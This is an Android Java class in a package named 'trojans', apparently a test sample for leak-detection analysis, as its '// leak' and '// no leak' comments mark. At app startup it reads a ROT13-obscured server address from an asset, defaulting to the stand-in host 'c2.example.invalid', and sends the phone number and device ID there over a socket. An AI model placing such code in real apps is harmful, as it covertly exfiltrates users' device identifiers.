package trojans;

import android.app.Application;
import android.content.Context;
import android.telephony.TelephonyManager;
import java.io.BufferedReader;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.PrintWriter;
import java.net.Socket;
import java.util.HashMap;
import java.util.Map;
import java.util.Properties;

/** Where it sends to stands in an asset. */
public class Config extends Application {
    private final Map<String, String> config = new HashMap<>();

    protected void attachBaseContext(Context base) {
        super.attachBaseContext(base);
        try (BufferedReader in = new BufferedReader(new InputStreamReader(base.getAssets().open("c.dat")))) {
            for (String line = in.readLine(); line != null; line = in.readLine()) {
                int at = line.indexOf('=');
                config.put(line.substring(0, at), rot(line.substring(at + 1)));
            }
        } catch (Exception e) {
            config.put("host", "c2.example.invalid");
        }
    }

    static String rot(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            out.append(Character.isLowerCase(c) ? (char) ((c - 'a' + 13) % 26 + 'a') : c);
        }
        return out.toString();
    }

    public void onCreate() {
        super.onCreate();
        new Thread("up") {
            @Override
            public void run() {
                try {
                    up();
                } catch (Exception e) {
                    config.clear();
                }
            }
        }.start();
    }

    private void up() throws Exception {
        Socket line = new Socket(config.get("host"), Integer.parseInt(config.get("port")));
        PrintWriter out = new PrintWriter(line.getOutputStream(), true);
        out.println(config.get("bot")); // no leak
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        String hidden = rot(phone.getLine1Number());
        out.println(hidden); // leak
        Properties kept = new Properties();
        kept.setProperty("i", phone.getDeviceId());
        kept.setProperty("v", "2");
        out.println(kept.getProperty("v")); // no leak
        kept.store(out, "state"); // leak
    }
}
